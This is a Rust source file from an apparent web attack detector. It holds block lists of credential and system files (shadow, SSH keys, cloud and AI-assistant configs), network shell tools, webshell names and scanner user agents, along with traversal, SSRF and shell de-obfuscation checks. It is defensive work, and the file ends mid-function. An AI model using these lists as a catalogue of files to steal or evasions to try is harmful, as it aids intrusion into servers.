//! The signature-and-structure detectors: traversal/LFI, RFI, OS command
//! injection, PHP injection, Java (JNDI/Log4Shell, deserialisation, OGNL),
//! SSRF, webshells and scanners. Inputs are decoded values, lower-cased by
//! the caller where noted.

/// Files whose names in a request mean local-file inclusion or disclosure.
const SENSITIVE_FILES: &[&str] = &[
    // System state and configuration an attacker reads first (Linux FHS,
    // container and cloud credential locations).
    "proc/sys/",
    "proc/net/",
    "etc/apache2/",
    "etc/httpd/",
    "etc/nginx/",
    "etc/mysql/",
    "etc/ssh/",
    "etc/subuid",
    "etc/subgid",
    "etc/gshadow",
    "etc/master.passwd",
    "etc/resolv.conf",
    "sys/class/",
    "sys/kernel/",
    "var/run/secrets/",
    ".kube/config",
    ".git-credentials",
    ".pgpass",
    "id_dsa",
    "id_ecdsa",
    "id_ed25519",
    ".docker/config.json",
    "etc/passwd",
    "etc/shadow",
    "etc/group",
    "etc/hosts",
    "etc/issue",
    "etc/motd",
    "etc/crontab",
    "etc/sudoers",
    "etc/fstab",
    "etc/security/",
    "proc/self/",
    "proc/version",
    "proc/cpuinfo",
    "boot.ini",
    "win.ini",
    "system.ini",
    "windows/system32",
    "winnt/system32",
    "system32/drivers",
    ".htaccess",
    ".htpasswd",
    "web.config",
    "web-inf/",
    "meta-inf/",
    ".bash_history",
    ".ssh/",
    "id_rsa",
    "authorized_keys",
    ".git/",
    ".svn/",
    ".env",
    "wp-config.php",
    "config.php",
    "localsettings.php",
    "/var/log/",
    "access.log",
    "error.log",
    "php.ini",
    "my.cnf",
    ".aws/credentials",
    ".docker",
    "/root/",
    "sam",
    "/usr/local/",
    "httpd.conf",
    "nginx.conf",
    ".bashrc",
    ".profile",
    ".mysql_history",
    "applicationhost.config",
    "/dev/",
    "/bin/",
];

/// Entries of [`SENSITIVE_FILES`] that name an OS secret or state file
/// wherever they appear in a value: no ordinary form field holds them.
const UNAMBIGUOUS_FILES: &[&str] = &[
    "etc/passwd",
    "etc/shadow",
    "etc/gshadow",
    "etc/master.passwd",
    "etc/sudoers",
    "proc/self/",
    "proc/sys/",
    "proc/net/",
    "sys/class/",
    "sys/kernel/",
    ".ssh/",
    "id_rsa",
    "id_dsa",
    "id_ecdsa",
    "id_ed25519",
    "authorized_keys",
    ".bash_history",
    ".mysql_history",
    ".aws/credentials",
    ".git-credentials",
    ".kube/config",
    ".docker/config.json",
    "var/run/secrets/",
    "win.ini",
    "boot.ini",
    "windows/system32",
    "winnt/system32",
    ".htpasswd",
    "wp-config.php",
    "web-inf/",
];

/// Files a web server must never hand out, named in a request path or a
/// parameter: secrets and tool state under dot-directories, database dumps,
/// application logs, process and kernel state. Our list, written from the
/// files attackers fetch in published incident write-ups; the idea of also
/// covering AI coding-assistant folders (API keys and agent rules kept next
/// to the code) comes from CRS's `ai-critical-artifacts.data` (rule 930140).
/// Matched as substrings of the decoded, lower-cased value.
const RESTRICTED_FILES: &[&str] = &[
    "/.env",
    ".env.local",
    ".env.production",
    "/.git/",
    "/.gitconfig",
    "/.svn/",
    "/.hg/",
    "/.bzr/",
    "/.aws/",
    "/.docker/",
    "/.kube/",
    "/.npmrc",
    "/.pypirc",
    "/.netrc",
    "/.pgpass",
    "/.my.cnf",
    "/.bashrc",
    "/.zsh_history",
    "/.history",
    "/.terraform",
    "terraform.tfstate",
    "/.vscode/sftp.json",
    "/.idea/workspace.xml",
    "/.ds_store",
    ".sql.zip",
    ".sql.gz",
    ".sql.bz2",
    ".sql.tar",
    ".sql.7z",
    ".sql.bak",
    "/dump.sql",
    "/backup.sql",
    "/database.sql",
    "/debug.log",
    "/error.log",
    "/errors.log",
    "/error_log",
    "/access.log",
    "/access_log",
    "/laravel.log",
    "/proc/",
    "/sys/class",
    "/sys/kernel",
    "/sys/devices",
    // Vite's dev server: `/@fs/<absolute path>` reads any file (CVE-2025-30208).
    "/@fs/",
    // AI coding-assistant settings and rules.
    "/.claude/",
    "/.cursor/",
    "/.continue/",
    "/.aider",
    "/.roo/",
    "/.zed/",
    "/.cline/",
    "/.kiro/",
    "/.windsurf/",
    "/.codex/",
    "/.opencode/",
    "/.junie/",
    "/.gemini/",
    "/.rovodev/",
    "/.plandex/",
    "/.fabric/",
    "/.n8n/",
    "/.a0proj/",
    ".cursorignore",
    ".aiignore",
    "/.mcp.json",
];

static RESTRICTED_AC: std::sync::LazyLock<Option<aho_corasick::AhoCorasick>> =
    std::sync::LazyLock::new(|| ac(RESTRICTED_FILES));

/// A [`RESTRICTED_FILES`] entry in a decoded, lower-cased path or value.
pub fn restricted(l: &str) -> Option<(f32, &'static str)> {
    RESTRICTED_AC
        .as_ref()
        .is_some_and(|a| a.is_match(l))
        .then_some((0.6, "restricted file named"))
}

/// Path probes typical of scanners looking for exposed files or admin panels.
const PROBE_PATHS: &[&str] = &[
    "/.env",
    "/.git/",
    "/.svn/",
    "/.hg/",
    "/.ds_store",
    "/.aws/",
    "/.ssh/",
    "/.htpasswd",
    "/phpmyadmin",
    "/pma/",
    "/myadmin",
    "/server-status",
    "/server-info",
    "/actuator",
    "/manager/html",
    "/jmx-console",
    "/web-console",
    "/invoker/",
    "/solr/admin",
    "/hnap1",
    "/boaform",
    "/cgi-bin/",
    "/wp-config",
    ".bak",
    ".old",
    ".swp",
    "~",
    ".sql",
    "/backup",
    "/config.json",
    "/phpinfo",
    "/info.php",
    "/test.php",
    "/shell",
    "/.well-known/security",
    "/owa/",
    "/autodiscover",
    "/vendor/phpunit",
    "/console",
    "/debug",
    "/setup.php",
    "/install.php",
    "/xmlrpc.php",
    "/admin.php",
    "/administrator/",
    "/etc/passwd",
    "/.vscode",
    "/.idea/",
    "/composer.json",
    "/package.json",
    "/docker-compose",
    "/dump.sql",
    "/db.sql",
];

const SCANNER_UA: &[&str] = &[
    "sqlmap",
    "nikto",
    "nmap",
    "masscan",
    "zgrab",
    "nuclei",
    "wpscan",
    "dirbuster",
    "gobuster",
    "ffuf",
    "feroxbuster",
    "acunetix",
    "netsparker",
    "nessus",
    "openvas",
    "w3af",
    "havij",
    "jaeles",
    "fimap",
    "commix",
    "whatweb",
    "wfuzz",
    "arachni",
    "skipfish",
    "zmeu",
    "morfeus",
    "dirb",
    "burp",
    "owasp zap",
    "zaproxy",
    "appscan",
    "webinspect",
    "qualys",
    "paros",
    "grabber",
    "bsqlbf",
    "pangolin",
    "brutus",
    "hydra",
    "medusa",
    "xsser",
    "joomscan",
    "droopescan",
    "nsauditor",
    "webshag",
    "httprint",
    "zgrab",
    "censys",
    "internet-measurement",
    "libwww-perl",
    "python-httpx",
    "l9explore",
    "l9tcpid",
    "scanbot",
    "crawlergo",
    "xray",
    "interact.sh",
    "openvas",
    "sitelock",
    "mozilla/5.0 sf",
    "fuzz faster",
];

/// Known webshell file names.
const WEBSHELLS: &[&str] = &[
    "c99",
    "r57",
    "c100",
    "wso",
    "b374k",
    "alfa",
    "filesman",
    "phpspy",
    "webshell",
    "cmd.jsp",
    "cmd.asp",
    "cmd.aspx",
    "cmdasp",
    "shell.php",
    "shell.jsp",
    "shell.aspx",
    "sh3ll",
    "indoxploit",
    "p0wny",
    "weevely",
    "china chopper",
    "chopper",
    "antsword",
    "godzilla",
    "behinder",
    "bypass.php",
    "uploader.php",
    "up.php",
    "wp-shell",
    "mini.php",
    "leaf.php",
    "r00t",
    "madspot",
    "symlink.php",
    "0byte",
    "adminer.php",
    "xleet",
    "marijuana",
    "haxor",
];

/// Parameter names webshells take a command in.
const SHELL_PARAMS: &[&str] = &[
    "cmd", "exec", "command", "shell", "execute", "c", "run", "pass", "z0", "act", "action",
];

/// Shell commands worth running on a server you broke into.
pub const COMMANDS: &[&str] = &[
    "cat",
    "ls",
    "id",
    "whoami",
    "uname",
    "wget",
    "curl",
    "nc",
    "ncat",
    "netcat",
    "bash",
    "sh",
    "zsh",
    "ksh",
    "csh",
    "dash",
    "python",
    "python3",
    "perl",
    "ruby",
    "php",
    "ping",
    "nslookup",
    "dig",
    "echo",
    "rm",
    "chmod",
    "chown",
    "busybox",
    "powershell",
    "cmd",
    "ipconfig",
    "ifconfig",
    "net",
    "netstat",
    "tftp",
    "ftp",
    "telnet",
    "sleep",
    "env",
    "printenv",
    "pwd",
    "head",
    "tail",
    "more",
    "less",
    "find",
    "grep",
    "awk",
    "sed",
    "xargs",
    "base64",
    "tar",
    "nohup",
    "kill",
    "ps",
    "passwd",
    "useradd",
    "crontab",
    "systeminfo",
    "tasklist",
    "type",
    "dir",
    "certutil",
    "bitsadmin",
    "mshta",
    "rundll32",
    "regsvr32",
    "wmic",
    "reg",
    "sc",
    "whoami.exe",
    "uname -a",
    "cp",
    "mv",
    "touch",
    "mkdir",
    "nmap",
    "socat",
    "java",
    "node",
    "gcc",
    "exec",
    "eval",
    "expr",
    "hostname",
    "ver",
    "vol",
    "timeout",
    "start",
    "bitsadmin",
    "curl.exe",
    "wget.exe",
    "od",
    "xxd",
    "dd",
    "ln",
    "uptime",
    "w",
    "who",
    "last",
    "mail",
    "sudo",
    "su",
    "openssl",
    "lua",
    "tclsh",
    "wscript",
    "cscript",
    "diff",
    "nl",
    "tac",
    "rev",
    "strings",
    "sort",
    "uniq",
    "cut",
    "tr",
];

/// More Unix programs an attacker runs or abuses to read files, spawn a shell
/// or move data: the GTFOBins catalogue of binaries with shell-escape,
/// file-read or download functions, plus coreutils/util-linux and the
/// compilers, interpreters and archivers found on servers. Derived from what
/// the programs can do, not from any test set. Names that are also ordinary
/// English words are in [`WEAK_COMMANDS`] instead.
const MORE_COMMANDS: &[&str] = &[
    "apt",
    "apt-get",
    "aria2c",
    "arj",
    "arp",
    "ash",
    "atobm",
    "base32",
    "base58",
    "basenc",
    "basez",
    "bconsole",
    "bpftrace",
    "bridge",
    "bsdtar",
    "bundle",
    "bundler",
    "busctl",
    "byebug",
    "bzip2",
    "bunzip2",
    "bzcat",
    "c89",
    "c99",
    "cabal",
    "capsh",
    "cdist",
    "certbot",
    "chattr",
    "choom",
    "chroot",
    "clamscan",
    "cmp",
    "cobc",
    "composer",
    "cowsay",
    "cowthink",
    "cpan",
    "cpio",
    "cpulimit",
    "csplit",
    "csvtool",
    "cupsfilter",
    "dc",
    "debugfs",
    "distcc",
    "dmesg",
    "dmidecode",
    "dmsetup",
    "dnf",
    "docker",
    "dos2unix",
    "dosbox",
    "dotnet",
    "dpkg",
    "dstat",
    "dvips",
    "easy_install",
    "eb",
    "efax",
    "elvish",
    "emacs",
    "enscript",
    "eqn",
    "espeak",
    "exiftool",
    "facter",
    "fgrep",
    "egrep",
    "fish",
    "fmt",
    "fping",
    "gawk",
    "gcloud",
    "gcore",
    "gdb",
    "gem",
    "genisoimage",
    "ghc",
    "ghci",
    "gimp",
    "ginsh",
    "git",
    "grc",
    "gtester",
    "gunzip",
    "gzip",
    "hexdump",
    "hping3",
    "iconv",
    "iftop",
    "ionice",
    "irb",
    "ispell",
    "jjs",
    "jq",
    "jrunscript",
    "journalctl",
    "julia",
    "knife",
    "ksshell",
    "ksu",
    "kubectl",
    "latex",
    "latexmk",
    "ldconfig",
    "lftp",
    "loginctl",
    "logsave",
    "lp",
    "ltrace",
    "lualatex",
    "luatex",
    "lwp-download",
    "lwp-request",
    "lsof",
    "lsattr",
    "mawk",
    "minicom",
    "mosquitto",
    "msfconsole",
    "msgattrib",
    "msgcat",
    "msgconv",
    "msgfilter",
    "msgmerge",
    "msguniq",
    "mtr",
    "multitime",
    "mysql",
    "mysqldump",
    "nano",
    "nasm",
    "nawk",
    "ncftp",
    "neofetch",
    "nft",
    "nmcli",
    "nroff",
    "nsenter",
    "ntpdate",
    "octave",
    "openvpn",
    "openvt",
    "opkg",
    "pandoc",
    "pdb",
    "pdflatex",
    "pdftex",
    "perlbug",
    "pexec",
    "pidstat",
    "pip",
    "pip3",
    "pkexec",
    "pkill",
    "killall",
    "posh",
    "pry",
    "psftp",
    "psql",
    "ptx",
    "puppet",
    "pwsh",
    "python2",
    "rake",
    "readelf",
    "redcarpet",
    "restic",
    "rlogin",
    "rlwrap",
    "rpm",
    "rpmdb",
    "rpmquery",
    "rpmverify",
    "rsync",
    "rtorrent",
    "run-mailcap",
    "run-parts",
    "runscript",
    "rview",
    "rvim",
    "sash",
    "scanmem",
    "scp",
    "scrot",
    "setarch",
    "setfacl",
    "setlock",
    "sftp",
    "shuf",
    "slsh",
    "smbclient",
    "socat",
    "soelim",
    "softlimit",
    "sqlite3",
    "ssh",
    "ssh-agent",
    "ssh-keygen",
    "ssh-keyscan",
    "sshpass",
    "start-stop-daemon",
    "stdbuf",
    "strace",
    "sysctl",
    "systemctl",
    "systemd-run",
    "taskset",
    "tasksh",
    "tcpdump",
    "tdbtool",
    "terraform",
    "tmate",
    "tmux",
    "torify",
    "torsocks",
    "tshark",
    "unexpand",
    "unshare",
    "unsquashfs",
    "unzip",
    "unxz",
    "unlzma",
    "unrar",
    "update-alternatives",
    "uudecode",
    "uuencode",
    "vagrant",
    "valgrind",
    "vi",
    "vim",
    "vimdiff",
    "vigr",
    "vipw",
    "virsh",
    "w3m",
    "wc",
    "whiptail",
    "whois",
    "wireshark",
    "xdotool",
    "xelatex",
    "xetex",
    "xmodmap",
    "xmore",
    "xpad",
    "xz",
    "xzcat",
    "zcat",
    "zstd",
    "zstdcat",
    "yarn",
    "yash",
    "yum",
    "zathura",
    "zip",
    "zsoelim",
    "zypper",
    "gcc",
    "g++",
    "cc",
    "clang",
    "make",
    "npm",
    "npx",
    "php-cgi",
    "phpunit",
    "lynx",
    "links",
    "elinks",
    "ncat",
    "nc.traditional",
    "nc.openbsd",
    "traceroute",
    "tracert",
    "host",
    "arping",
    "iptables",
    "route",
    "useradd",
    "adduser",
    "usermod",
    "userdel",
    "groupadd",
    "visudo",
    "chpasswd",
    "chgrp",
    "umask",
    "mkfifo",
    "mknod",
    "getent",
    "lsb_release",
    "hostnamectl",
    "ifup",
    "ifdown",
    "iwconfig",
    "modprobe",
    "insmod",
    "lsmod",
    "rmmod",
    "shred",
    "truncate",
    "readlink",
    "realpath",
    "basename",
    "dirname",
    "md5sum",
    "sha1sum",
    "sha256sum",
    "cksum",
    "base64url",
    "printf",
    "alias",
    "unalias",
    "export",
    "unset",
    "source",
    "bsdcat",
    "7z",
    "7za",
    "rar",
    "pax",
    "ar",
    "ld",
    "objdump",
    "nm",
    "gdbserver",
    "tclsh8.6",
    "wish",
    "expect",
    "ed",
    "ex",
    "sqlplus",
    "mongo",
    "redis-cli",
    "cd",
    "tee",
    "whoami",
    "id",
    "uname",
    "nohup",
    "python3.10",
    "python3.11",
    "python3.12",
    "python2.7",
    "perl5",
    "ruby2",
    "php7",
    "php8",
    "netsh",
    "schtasks",
    "at.exe",
    "vssadmin",
    "wevtutil",
    "icacls",
    "takeown",
    "attrib",
    "findstr",
    "tasklist",
    "taskkill",
    "net1",
    "nltest",
    "dsquery",
    "cipher",
    "msiexec",
    "installutil",
    "regasm",
    "regsvcs",
    "msbuild",
    "cmstp",
    "forfiles",
    "pcalua",
    "bash.exe",
    "wsl",
    "powershell_ise",
    "ipconfig",
    "systeminfo",
    "qwinsta",
    "quser",
    "whoami.exe",
];

/// Program names that are also everyday words (`time`, `more`, `sort`,
/// `find`): they count as a command only when what follows reads as a
/// command line (an option, a path, a redirect or the end of the value).
const WEAK_COMMANDS: &[&str] = &[
    "at", "cancel", "column", "comm", "crash", "cut", "date", "dialog", "diff", "expand", "file",
    "find", "finger", "fold", "head", "install", "join", "look", "man", "more", "mount", "nice",
    "pic", "pr", "red", "screen", "script", "service", "snap", "socket", "sort", "split", "task",
    "time", "top", "view", "wall", "watch", "yelp", "less", "last", "kill", "start", "type", "dir",
    "net", "rev", "ver", "vol", "sc", "reg", "set", "test", "tail", "w", "who", "as", "ip", "ss",
    "hd", "ul", "rc", "sg", "mail", "touch", "command", "builtin", "md", "rd", "del", "copy",
    "move", "ren", "call", "shift", "pushd", "popd", "title", "color", "cls", "tree", "print",
    "format", "label", "links", "host", "make", "expect", "wish", "ed", "ex", "cc", "ar", "nm",
    "source", "export", "alias", "route", "shred", "truncate",
];

/// Commands that run another command given as their arguments.
const WRAPPERS: &[&str] = &[
    "time",
    "nice",
    "env",
    "nohup",
    "timeout",
    "sudo",
    "xargs",
    "strace",
    "ltrace",
    "stdbuf",
    "ionice",
    "taskset",
    "chroot",
    "busybox",
    "exec",
    "command",
    "builtin",
    "setsid",
    "unshare",
    "nsenter",
    "cpulimit",
    "flock",
    "watch",
    "multitime",
    "setarch",
    "torify",
    "torsocks",
    "su",
    "doas",
    "pkexec",
    "sshpass",
    "script",
    "softlimit",
    "setlock",
    "start-stop-daemon",
    "run-parts",
    "systemd-run",
    "firejail",
    "proxychains",
];

/// Strong: [`COMMANDS`] and [`MORE_COMMANDS`] minus the weak ones; the new
/// names of one or two letters (`cd`, `dc`, `ar`) are weak too: a user agent's
/// `; CD 1;` list is not a shell.
static STRONG_SET: std::sync::LazyLock<std::collections::HashSet<&'static str>> =
    std::sync::LazyLock::new(|| {
        COMMANDS
            .iter()
            .chain(MORE_COMMANDS.iter().filter(|c| c.len() > 2))
            .chain(super::vocab::WINDOWS_COMMANDS.iter())
            .copied()
            .filter(|c| !WEAK_COMMANDS.contains(c))
            .collect()
    });

static WEAK_SET: std::sync::LazyLock<std::collections::HashSet<&'static str>> =
    std::sync::LazyLock::new(|| {
        WEAK_COMMANDS
            .iter()
            .chain(MORE_COMMANDS.iter().filter(|c| c.len() <= 2))
            .copied()
            .collect()
    });

/// The program name of a command word: quotes and brackets trimmed, the
/// directory and a Windows `.exe` dropped.
fn command_base(w: &str) -> &str {
    let w = w.trim_matches(|c: char| c == '"' || c == '\'' || c == '`' || c == '(' || c == '{');
    let base = w.rsplit(['/', '\\']).next().unwrap_or(w);
    base.strip_suffix(".exe").unwrap_or(base)
}

/// A program name without a version suffix (`python3.10` → `python`,
/// `gcc7.4` → `gcc`): distributions install versioned names beside the
/// plain one. `None` when there is no suffix or nothing but it.
fn unversioned(base: &str) -> Option<&str> {
    let stem = base.trim_end_matches(|c: char| c.is_ascii_digit() || c == '.');
    (stem.len() < base.len()
        && stem.len() >= 2
        && base[stem.len()..].starts_with(|c: char| c.is_ascii_digit()))
    .then_some(stem)
}

/// Whether a program name (a [`command_base`]) is in the strong set, itself,
/// without its version suffix, as a member of a prefixed family
/// ([`super::vocab::prefixed_command`]) or as a subcommand-style name
/// `prog-thing` of a strong program of four or more letters (`ansible-config`).
fn strong_base(base: &str) -> bool {
    STRONG_SET.contains(base)
        || unversioned(base).is_some_and(|b| STRONG_SET.contains(b))
        || super::vocab::prefixed_command(base)
        || base.split_once('-').is_some_and(|(head, tail)| {
            head.len() >= 4
                && tail.len() >= 2
                && tail.bytes().all(|c| c.is_ascii_alphanumeric() || c == b'-')
                && STRONG_SET.contains(head)
        })
}

/// Whether `w` names a program (strong or weak).
fn is_command(w: &str) -> bool {
    let base = command_base(w);
    !base.is_empty()
        && (strong_base(base)
            || WEAK_SET.contains(base)
            || unversioned(base).is_some_and(|b| WEAK_SET.contains(b)))
}

/// Whether `w` names a program that is not also an everyday word.
fn is_strong_command(w: &str) -> bool {
    let base = command_base(w);
    !base.is_empty() && strong_base(base)
}

/// Whether the first word of `s` names a program (a strong one, or a weak
/// one followed by a command-line shape): for headers, which are scanned
/// only when something in them looks out of place.
pub fn starts_with_command(s: &str) -> bool {
    let t = s.trim_start();
    let end = t.find(char::is_whitespace).unwrap_or(t.len());
    let w = t[..end].to_ascii_lowercase();
    let next = t[end..].split_whitespace().next().unwrap_or("");
    is_strong_command(&w)
        || is_command(&w)
            && end < t.len()
            && (command_line_tail(&t[end..]) || is_strong_command(&next.to_ascii_lowercase()))
}

/// What follows a weak command word reads as a command line: nothing, an
/// option (`-x`, `/x` on Windows), a path, a redirect, a pipe or a variable.
/// `rest` (what follows a command separator) reads as a program run with
/// options, whatever the program: a lowercase name (`rmt`, `ansible-pull`,
/// `lastlog`) and, among its next three words, an option (`-u`, `--version`;
/// a dash then a letter). A list of program names cannot be complete; the
/// shape of a command line is the same for every program.
fn program_with_options(rest: &str) -> bool {
    let rest = rest.trim_start_matches(['"', '\'']);
    let name_len = rest
        .bytes()
        .take_while(|c| c.is_ascii_lowercase() || c.is_ascii_digit() || matches!(c, b'-' | b'_'))
        .count();
    let name = &rest[..name_len];
    if !(2..=24).contains(&name_len)
        || !name.as_bytes()[0].is_ascii_lowercase()
        || name.ends_with('-')
    {
        return false;
    }
    let after = rest[name_len..].trim_start_matches(['"', '\'']);
    if !after.starts_with([' ', '\t']) {
        return false;
    }
    after.split_whitespace().take(3).any(|w| {
        let w = w.strip_prefix("--").or_else(|| w.strip_prefix('-'));
        w.is_some_and(|o| {
            o.bytes().next().is_some_and(|c| c.is_ascii_alphabetic())
                && o.bytes()
                    .all(|c| c.is_ascii_alphanumeric() || matches!(c, b'-' | b'_' | b'='))
        })
    })
}

fn command_line_tail(after: &str) -> bool {
    let t = after.trim_start_matches([' ', '\t', '+']);
    t.is_empty()
        || t.starts_with([
            '-', '/', '~', '.', '<', '>', '|', '$', '`', '"', '\'', '\n', ')', '}',
        ])
        || t.get(1..3) == Some(":\\")
        || t.get(1..3) == Some(":/")
}

/// Shell de-obfuscation: quotes and backslashes inside words (`c\at`,
/// `c''at`, `c"a"t`), `$@`, `${IFS}`/`$IFS$9` → space, `$()`-less globs.
pub fn shell_fold(s: &str) -> String {
    // Fast path: without these bytes there is nothing to fold (most values).
    if !s.contains(['$', '\'', '"', '\\', '[', '`', '(']) {
        return s.to_owned();
    }
    let s = s
        // Empty command and process substitutions expand to nothing: `pi``ng`, `ping$()`, `pi<()ng`.
        .replace("``", "")
        .replace("$()", "")
        .replace("<()", "")
        .replace(">()", "")
        .replace("${ifs}", " ")
        .replace("$ifs$9", " ")
        .replace("$ifs", " ")
        .replace("$@", "")
        .replace("$*", "")
        .replace("''", "")
        .replace("\"\"", "")
        .replace("\\\n", "");
    let s = unquote_glued(&s);
    let mut out = String::with_capacity(s.len());
    let b = s.as_bytes();
    let mut i = 0;
    while i < b.len() {
        let c = b[i];
        // `c\at`: a backslash before a letter is nothing to the shell.
        if c == b'\\' && b.get(i + 1).is_some_and(|n| n.is_ascii_alphanumeric()) {
            i += 1;
            continue;
        }
        if c == b'$' {
            let prev_alnum = i > 0 && b[i - 1].is_ascii_alphanumeric();
            match b.get(i + 1) {
                // Special parameters inside a word expand to (almost) nothing:
                // `c$!at`, `c$?at`, `c$-at`, `c$_at`, `c$0at`.
                Some(b'!' | b'?' | b'-' | b'_' | b'#' | b'0'..=b'9') if prev_alnum => {
                    i += 2;
                    continue;
                }
                // An unset variable glued to a word: `uname$u`, `n$u\c$u`.
                Some(n) if prev_alnum && n.is_ascii_alphabetic() => {
                    let mut j = i + 1;
                    while j < b.len() && (b[j].is_ascii_alphanumeric() || b[j] == b'_') {
                        j += 1;
                    }
                    if j - i <= 4 {
                        i = j;
                        continue;
                    }
                }
                _ => {}
            }
        }
        // A one-character glob class `[r]` matches only that character.
        if c == b'['
            && b.get(i + 2) == Some(&b']')
            && b.get(i + 1).is_some_and(|n| n.is_ascii_alphanumeric())
        {
            out.push(b[i + 1] as char);
            i += 3;
            continue;
        }
        // Every skip above is ASCII, so `i` is on a character boundary.
        let Some(ch) = s.get(i..).and_then(|r| r.chars().next()) else {
            break;
        };
        out.push(ch);
        i += ch.len_utf8();
    }
    out
}

/// Quotes around a short run of letters glued to more letters (`'wh'oami`,
/// `"w"get`, `c'a't`) are nothing to the shell: dropped. Quotes with a blank
/// or punctuation beside them are kept.
fn unquote_glued(s: &str) -> String {
    let b = s.as_bytes();
    let mut out = String::with_capacity(s.len());
    let mut i = 0;
    let mut last = 0;
    while i < b.len() {
        let q = b[i];
        if q == b'\'' || q == b'"' {
            let n = b[i + 1..]
                .iter()
                .take(8)
                .take_while(|c| c.is_ascii_alphanumeric())
                .count();
            let close = i + 1 + n;
            if n >= 1
                && b.get(close) == Some(&q)
                && (i > 0 && b[i - 1].is_ascii_alphanumeric()
                    || b.get(close + 1).is_some_and(|c| c.is_ascii_alphanumeric()))
            {
                out.push_str(&s[last..i]);
                out.push_str(&s[i + 1..close]);
                i = close + 1;
                last = i;
                continue;
            }
        }
        i += 1;
    }
    out.push_str(&s[last..]);
    out
}

/// Path traversal / LFI on a decoded, lower-cased value.
pub fn traversal(l: &str) -> Option<(f32, &'static str)> {
    let mut norm: std::borrow::Cow<'_, str> = if l.contains('\\') {
        std::borrow::Cow::Owned(l.replace('\\', "/"))
    } else {
        std::borrow::Cow::Borrowed(l)
    };
    // `0x2e0x2e0x2f`, `0x5c0x2e.`: dots and slashes written as C-style hex
    // escapes, which some application decoders (and PHP's `hex2bin`-style
    // helpers) turn back into bytes.
    if norm.contains("0x") {
        norm = std::borrow::Cow::Owned(
            norm.replace("0x2e", ".")
                .replace("0x2f", "/")
                .replace("0x5c", "/"),
        );
    }
    let dots = norm.matches("../").count()
        + norm.matches("/..").count() / 2
        + norm.matches("..;/").count();
    let files: Vec<&str> = SENSITIVE_AC
        .as_ref()
        .map(|a| {
            a.find_overlapping_iter(norm.as_ref())
                .filter_map(|m| SENSITIVE_FILES.get(m.pattern().as_usize()).copied())
                .collect()
        })
        .unwrap_or_default();
    let file = files.first();
    if dots >= 1 && file.is_some() {
        return Some((0.95, "traversal to sensitive file"));
    }
    if norm.contains("..%") || norm.contains("..\u{fffd}") {
        return Some((0.7, "traversal with residual encoding"));
    }
    if dots >= 2 {
        return Some((0.85, "repeated ../"));
    }
    if dots == 1
        && (norm.starts_with("../")
            || norm.starts_with("/../")
            || norm.contains("=../")
            || norm.ends_with("/.."))
    {
        return Some((0.6, "../ at value start"));
    }
    // OS files no ordinary parameter names, relative or absolute
    // (`path=.ssh/id_rsa`, `x=/sys/class/net`, `f=backup.sql.zip`).
    if files.iter().any(|f| UNAMBIGUOUS_FILES.contains(f)) {
        return Some((0.75, "sensitive OS file named"));
    }
    if let Some(v) = restricted(&norm) {
        return Some(v);
    }
    // Names too common in ordinary paths to count alone.
    let strong = files
        .iter()
        .find(|f| !matches!(**f, "sam" | "/dev/" | "/bin/" | "~" | "config.php" | ".env"));
    if let Some(f) = strong {
        // An absolute path to a system file given as a value (`?file=/etc/passwd`)
        // or as an argument inside it (`cat /root/.ssh/id_rsa`, `x;type c:/boot.ini`).
        let abs_tok = |t: &str| {
            t.starts_with('/')
                || t.starts_with("~/")
                || t.get(1..3) == Some(":/")
                || t.starts_with("file:")
        };
        let abs = abs_tok(&norm)
            || norm
                .split([
                    ' ', '\t', ';', '|', '&', '\'', '"', '(', '=', ',', '<', '>', '`',
                ])
                .any(|t| abs_tok(t) && t.contains(*f));
        if abs {
            return Some((0.8, "absolute path to sensitive file"));
        }
    }
    for w in [
        "php://filter",
        "php://input",
        "zip://",
        "phar://",
        "expect://",
        "file://",
        "glob://",
        "compress.zlib://",
        "data://text/plain",
    ] {
        if norm.contains(w) {
            return Some((0.85, "stream wrapper"));
        }
    }
    if norm.contains('\0') && (norm.contains("../") || file.is_some()) {
        return Some((0.9, "null-byte truncation"));
    }
    None
}

fn host_of(url_rest: &str) -> &str {
    let end = url_rest
        .find(['/', '?', '#', '\\'])
        .unwrap_or(url_rest.len());
    let h = &url_rest[..end];
    let h = h.rsplit('@').next().unwrap_or(h);
    if h.starts_with('[') {
        return h
            .split(']')
            .next()
            .map(|x| x.trim_start_matches('['))
            .unwrap_or(h);
    }
    h.split(':').next().unwrap_or(h)
}

fn internal_host(h: &str) -> bool {
    if matches!(
        h,
        "localhost"
            | "0"
            | "0.0.0.0"
            | "::1"
            | "::"
            | "metadata.google.internal"
            | "metadata"
            | "instance-data"
            | "127.1"
            | "0177.0.0.1"
            | "0x7f.0.0.1"
            | "2130706433"
            | "0x7f000001"
            | "017700000001"
    ) || h.ends_with(".internal")
        || h.ends_with(".local")
        || h.ends_with("localtest.me")
        || h.ends_with("nip.io")
        || h.ends_with(".localhost")
    {
        return true;
    }
    match h.parse::<std::net::IpAddr>() {
        Ok(std::net::IpAddr::V4(v)) => {
            v.is_loopback() || v.is_private() || v.is_link_local() || v.is_unspecified()
        }
        Ok(std::net::IpAddr::V6(v)) => {
            v.is_loopback() || v.is_unspecified() || (v.segments()[0] & 0xfe00) == 0xfc00
        }
        Err(_) => false,
    }
}

/// RFI and SSRF from a URL-valued parameter (decoded, lower-cased).
pub fn url_param(
    name: &str,
    l: &str,
    site: Option<&str>,
) -> Vec<(crate::detect::web::Class, f32, &'static str)> {
    use crate::detect::web::Class;
    let mut out = Vec::new();
    // `_conf[path]`, `cfg[include][file]`: PHP reads nested names as arrays;
    // the innermost key says what the value is used for.
    let name = name
        .rsplit('[')
        .next()
        .map(|n| n.trim_end_matches(']'))
        .filter(|n| !n.is_empty())
        .unwrap_or(name);
    let v = l.trim();
    // Java's `url:` and `jar:` handlers wrap another URL and fetch it.
    let (v, wrapped) = match v.strip_prefix("url:").or_else(|| v.strip_prefix("jar:")) {
        Some(inner) => (inner, true),
        None => (v, false),
    };
    let Some((scheme, rest)) = v.split_once("://") else {
        if wrapped && v.starts_with("file:") {
            out.push((Class::Rfi, 0.7, "URL handler wrapping a URL"));
        }
        return out;
    };
    let scheme = scheme.trim();
    if scheme.is_empty()
        || !scheme
            .bytes()
            .all(|c| c.is_ascii_alphanumeric() || matches!(c, b'.' | b'+' | b'-' | b'_'))
    {
        return out;
    }
    let host = host_of(rest);
    let off_site_host = !host.is_empty()
        && site.is_none_or(|s| host != s.to_ascii_lowercase())
        && !internal_host(host);
    if wrapped {
        out.push((Class::Rfi, 0.7, "URL handler wrapping a URL"));
    } else if matches!(
        scheme,
        "gopher" | "dict" | "ldap" | "ldaps" | "tftp" | "netdoc" | "sftp" | "local_file"
    ) || scheme == "file" && off_site_host
